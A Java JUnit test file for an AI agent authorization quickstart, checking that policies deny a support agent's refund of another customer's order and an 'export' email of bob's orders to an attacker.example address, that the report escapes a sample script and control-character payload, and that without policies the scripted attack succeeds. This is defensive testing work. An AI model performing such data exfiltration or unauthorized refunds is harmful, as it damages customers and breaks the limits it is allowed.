package dev.agentops.examples.quickstart;

import static org.assertj.core.api.Assertions.assertThat;

import dev.agentops.authorization.Authorizer;
import dev.agentops.content.TerminalText;
import dev.agentops.json.JsonObject;
import dev.agentops.otel.testkit.OtlpDecoder;
import dev.agentops.otel.testkit.convention.ConventionChecker;
import dev.agentops.policy.CedarAuthorizer;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What the README promises of the example. The tests run in the folder of the module. */
class QuickstartTest {
    private static final Path POLICIES = Path.of("policies");

    @TempDir
    private Path folder;

    private final ByteArrayOutputStream printed = new ByteArrayOutputStream();

    @BeforeEach
    void copyTools() throws Exception {
        Files.createDirectories(folder.resolve("policies"));
        Files.copy(POLICIES.resolve("tools.json"), folder.resolve("policies/tools.json"));
    }

    @Test
    void ownRefundIsMadeAndForeignOneAndMailAreDenied() throws Exception {
        List<String> lines = run(CedarAuthorizer.load(POLICIES));

        assertThat(lines)
                .containsSubsequence(
                        "  allowed  refund_order {\"customer_id\":\"alice\",\"order_id\":\"O-1001\",\"amount_cents\":2500}",
                        "           policy: may-use-shop-tools",
                        "           result: Refunded 2500 cents of order O-1001.",
                        "  DENIED   refund_order {\"customer_id\":\"bob\",\"order_id\":\"O-2001\",\"amount_cents\":9900}",
                        "           policy: own-orders-only (looks at customer_id) and refund-limit (looks at amount_cents)",
                        "  DENIED   send_email {\"to\":\"...@attacker.example\",\"subject\":\"export\",\"body\":\"all orders of bob\"}",
                        "           policy: no-mail-after-untrusted-text (looks at to)");
        assertThat(lines)
                .filteredOn(line -> line.startsWith("           model is told: "))
                .hasSize(2)
                .allMatch(line -> line.contains("This call is not permitted."))
                .noneMatch(line -> line.contains("5000") || line.contains("own-orders-only"));
    }

    @Test
    void memoryStaysWithItsCustomer() throws Exception {
        List<String> lines = run(CedarAuthorizer.load(POLICIES));

        assertThat(lines)
                .containsSubsequence(
                        "  allowed  memory write in /preferences/alice/",
                        "session bob-1: shop-support 1.0.0 works for bob of acme",
                        "           result: []",
                        "  allowed  memory read in /preferences/bob/",
                        "session alice-2: shop-support 1.0.0 works for alice of acme",
                        "           result: [\"by letter only\"]",
                        "  allowed  memory read in /preferences/alice/");
    }

    @Test
    void everySessionHasItsScores() throws Exception {
        List<String> lines = run(CedarAuthorizer.load(POLICIES));

        assertThat(lines)
                .contains(
                        "  alice-1  AgentOps.ToolErrorRate             0.00 no_errors (0 of 3 tool calls failed)",
                        "  alice-1  Builtin.TrajectoryExactOrderMatch  0.00 no_match (calls expected: 3, attempted: 5)",
                        "  bob-1    AgentOps.ToolErrorRate             0.33 errors (1 of 3 tool calls failed)",
                        "  bob-1    Builtin.TrajectoryExactOrderMatch  1.00 match (calls expected: 3, attempted: 3)",
                        "  alice-2  Builtin.TrajectoryExactOrderMatch  1.00 match (calls expected: 1, attempted: 1)");
    }

    @Test
    void reportTellsTheSameAndNothingInItActs() throws Exception {
        run(CedarAuthorizer.load(POLICIES));
        String page = Files.readString(folder.resolve("target/quickstart/report.html"));

        assertThat(page)
                .contains("default-src 'none'; style-src 'sha256-")
                .contains("<div class=\"denied\"><b>denied</b>refund_order {&quot;customer_id&quot;:&quot;bob&quot;")
                .contains("no-mail-after-untrusted-text")
                .contains("&lt;script&gt;alert(1)&lt;/script&gt;\\u001b[2J\\u202e")
                .contains("Builtin.TrajectoryExactOrderMatch")
                .doesNotContain("<script", "http:", "https:", "\u001b", "\u202e");
    }

    @Test
    void terminalSeesNoControlCharacter() throws Exception {
        assertThat(run(CedarAuthorizer.load(POLICIES)))
                .hasSizeGreaterThan(40)
                .allMatch(line -> line.equals(TerminalText.escape(line)));
    }

    @Test
    void spansHoldTheDecisionsAndNoMailbox() throws Exception {
        run(CedarAuthorizer.load(POLICIES));
        List<String> spans = Files.readAllLines(folder.resolve("target/quickstart/spans.jsonl"));

        assertThat(spans).allSatisfy(line -> assertThat(JsonObject.parse(line)).containsKey("resourceSpans"));
        assertThat(count(spans, "\"invoke_agent shop-support\"")).isEqualTo(5);
        assertThat(count(spans, "\"execute_tool ")).isEqualTo(9);
        assertThat(spans).anyMatch(line -> line.contains("own-orders-only") && line.contains("\"deny\""));
        assertThat(spans).noneMatch(line -> line.contains("orders@attacker"));
        assertThat(spans.stream()
                        .flatMap(line -> OtlpDecoder.jsonSpans(line).stream())
                        .flatMap(span -> ConventionChecker.create().check(span).stream()))
                .isEmpty();
    }

    @Test
    void withoutPoliciesTheSameScriptDoesTheDamageAndIsFoundOut() throws Exception {
        assertThat(quickstart(Authorizer.allowAll()).run()).isFalse();

        assertThat(lines())
                .contains(
                        "  ok       alice has her money back",
                        "  NOT SO   nobody touched bob's order",
                        "  NOT SO   no mail has left the shop",
                        "  NOT SO   two calls were denied, by three policies",
                        "  ok       bob reads nothing of alice's memory");
    }

    @Test
    void readmeShowsWhatIsPrinted() throws Exception {
        List<String> output = run(CedarAuthorizer.load(POLICIES));
        List<String> shown = readmeOutput();

        assertThat(shown)
                .hasSizeGreaterThan(20)
                .allMatch(line -> output.stream().anyMatch(real -> isCut(line, real)));
    }

    private static List<String> readmeOutput() throws Exception {
        return Pattern.compile("```text\n(.*?)```", Pattern.DOTALL)
                .matcher(Files.readString(Path.of("README.md")))
                .results()
                .flatMap(block -> block.group(1).lines())
                .toList();
    }

    private static boolean isCut(String line, String real) {
        return line.endsWith(" ...") ? real.startsWith(line.substring(0, line.length() - 4)) : real.equals(line);
    }

    @Test
    void mainPrintsWhereTheFilesAre() throws Exception {
        PrintStream before = System.out;
        try (PrintStream replacement = new PrintStream(printed, true, StandardCharsets.UTF_8)) {
            System.setOut(replacement);
            Quickstart.main(new String[0]);
        } finally {
            System.setOut(before);
        }

        Path target = Path.of("target", "quickstart").toAbsolutePath();
        assertThat(lines())
                .endsWith("report " + target.resolve("report.html"), "spans  " + target.resolve("spans.jsonl"));
        assertThat(target.resolve("report.html")).isNotEmptyFile();
        assertThat(target.resolve("spans.jsonl")).isNotEmptyFile();
    }

    private static long count(List<String> lines, String text) {
        return lines.stream().filter(line -> line.contains(text)).count();
    }

    private List<String> run(Authorizer authorizer) throws Exception {
        assertThat(quickstart(authorizer).run()).isTrue();
        return lines();
    }

    private Quickstart quickstart(Authorizer authorizer) {
        return new Quickstart(folder, authorizer, new PrintStream(printed, true, StandardCharsets.UTF_8));
    }

    private List<String> lines() {
        return printed.toString(StandardCharsets.UTF_8).lines().toList();
    }
}
